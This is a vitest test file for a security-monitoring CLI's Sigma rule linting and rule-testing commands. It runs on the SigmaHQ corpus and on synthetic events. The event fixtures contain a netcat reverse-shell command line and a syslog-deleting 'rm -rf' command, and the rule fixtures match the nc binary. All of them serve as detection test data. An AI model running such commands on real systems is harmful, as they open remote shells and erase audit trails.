// `omwatch-agent rules lint` and `rules test` as a SOC engineer uses them, on the real SigmaHQ corpus.
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';

const AGENT = new URL('../bin/omwatch-agent.js', import.meta.url).pathname;
const CORPUS = new URL('../../shared/corpus/sigma/rules', import.meta.url).pathname;

function agent(args: string[]) {
  return spawnSync(process.execPath, [AGENT, ...args], { encoding: 'utf8', timeout: 60_000, maxBuffer: 64 * 1024 * 1024 });
}

describe.skipIf(!existsSync(CORPUS))('rules lint on the SigmaHQ corpus', () => {
  it('loads all 525 rules (the goal is at least 98%), one JSON report per file', () => {
    const result = agent(['rules', 'lint', CORPUS, '--json']);
    const reports = result.stdout.trim().split('\n').map((line) => JSON.parse(line) as { file: string; ok: boolean; rules: number; errors: unknown[] });
    expect(reports).toHaveLength(525);
    const loaded = reports.reduce((sum, r) => sum + r.rules, 0);
    expect(loaded).toBe(525);
    expect(loaded / 525).toBeGreaterThanOrEqual(0.98);
    expect(reports.filter((r) => !r.ok)).toEqual([]);
    expect(result.status).toBe(0);
  });
});

describe('rules lint on broken rules', () => {
  it('names each bad rule with its code and line, loads the rest, and exits 1', () => {
    const dir = mkdtempSync(join(tmpdir(), 'omw-rules-'));
    writeFileSync(join(dir, 'good.yml'), 'title: good\nid: g1\nauthor: a\nlogsource: {category: process_creation, product: linux}\ndetection:\n  sel:\n    Image|endswith: /nc\n  condition: sel\n');
    writeFileSync(join(dir, 'bad.yml'), 'title: bad\nid: b1\nlogsource: {category: process_creation}\ndetection:\n  sel:\n    Image|endswith: /nc\n  other:\n    Image|endwith: x\n  condition: sel or other\n');
    writeFileSync(join(dir, 'broken.yml'), 'title: [unclosed\n');
    const result = agent(['rules', 'lint', dir, '--json']);
    expect(result.status).toBe(1);
    const reports = Object.fromEntries(result.stdout.trim().split('\n').map((line) => {
      const report = JSON.parse(line) as { file: string };
      return [report.file.slice(dir.length + 1), report];
    }));
    expect(reports['good.yml']).toEqual({ file: join(dir, 'good.yml'), ok: true, rules: 1, errors: [], warnings: [] });
    expect(reports['bad.yml']).toMatchObject({ ok: false, rules: 0, errors: [{ code: 'RULE_BAD_MODIFIER', line: 8, message: expect.stringContaining("unknown modifier 'endwith'") }] });
    expect(reports['broken.yml']).toMatchObject({ ok: false, errors: [{ code: 'RULE_YAML', line: 1 }] });
    const text = agent(['rules', 'lint', dir]);
    expect(text.stdout).toContain(`${join(dir, 'bad.yml')}:8: error RULE_BAD_MODIFIER`);
    expect(text.stdout).toContain('1 rules loaded from 3 files; 2 not loaded');
  });
});

describe.skipIf(!existsSync(CORPUS))('rules test', () => {
  it('prints one alert per match in event order, keeps the rule author, skips bad lines', () => {
    const dir = mkdtempSync(join(tmpdir(), 'omw-events-'));
    const events = join(dir, 'events.jsonl');
    const event = (id: string, fields: Record<string, unknown>) => JSON.stringify({ id, time: '2026-11-28T10:00:00Z', category: 'process_creation', product: 'linux', fields });
    writeFileSync(events, [
      event('e1', { Image: '/usr/bin/ls', CommandLine: 'ls -l' }),
      'this is not json',
      event('e2', { Image: '/usr/bin/nc', CommandLine: 'nc -e /bin/sh 10.0.0.9 4444', SessionId: 'ssh-1' }),
      event('e3', { Image: '/usr/bin/rm', CommandLine: 'rm -rf /var/log/syslog' }),
    ].join('\n'));
    const result = agent(['rules', 'test', '--rules', CORPUS, '--events', events]);
    expect(result.status).toBe(0);
    expect(result.stderr).toContain(`${events}:2: skipped: not JSON`);
    const alerts = result.stdout.trim().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
    const order = alerts.map((a) => (a['eventIds'] as string[])[0]);
    expect(order).toEqual(order.toSorted());
    const reverseShell = alerts.find((a) => a['ruleTitle'] === 'Potential Netcat Reverse Shell Execution');
    expect(reverseShell).toMatchObject({ ruleId: '7f734ed0-4f47-46c0-837f-6ee62505abd9', level: 'high', eventIds: ['e2'], time: '2026-11-28T10:00:00Z', author: '@d4ns4n_, Nasreddine Bencherchali (Nextron Systems)', sessionId: 'ssh-1' });
    expect(alerts.some((a) => (a['eventIds'] as string[])[0] === 'e3' && String(a['ruleTitle']).includes('Syslog'))).toBe(true);
    expect(alerts.some((a) => (a['eventIds'] as string[])[0] === 'e1')).toBe(false);
  });

  it('with --policy, judges events by the policy first, as the agent does', () => {
    const dir = mkdtempSync(join(tmpdir(), 'omw-events-'));
    const events = join(dir, 'events.jsonl');
    writeFileSync(join(dir, 'policy.yml'), 'approvedAccounts: [vendor1]\n');
    const session = (id: string, User: string) => JSON.stringify({ id, time: '2026-11-28T10:00:00Z', host: { id: 'h', name: 'hmi-07' }, category: 'remote_session', product: 'linux', fields: { SessionId: id, Action: 'start', Protocol: 'ssh', Tool: 'sshd', User } });
    writeFileSync(events, `${session('s1', 'vendor1')}\n${session('s2', 'intruder')}\n`);
    const packs = new URL('../rules/packs', import.meta.url).pathname;
    const titles = (args: string[]) => agent(['rules', 'test', '--rules', packs, '--events', events, ...args]).stdout.trim().split('\n').filter(Boolean)
      .map((line) => JSON.parse(line) as Record<string, unknown>).map((a) => `${(a['eventIds'] as string[])[0]} ${String(a['ruleTitle'])}`);
    expect(titles(['--policy', join(dir, 'policy.yml')])).toContain('s2 Remote Session by an Unapproved Account');
    expect(titles(['--policy', join(dir, 'policy.yml')])).not.toContain('s1 Remote Session by an Unapproved Account');
    expect(titles([])).toEqual([]);
  });

  it('exits 1 when the events cannot be read', () => {
    const result = agent(['rules', 'test', '--rules', CORPUS, '--events', '/nonexistent/events.jsonl']);
    expect(result.status).toBe(1);
    expect(result.stderr).toContain('/nonexistent/events.jsonl: cannot read');
  });
});
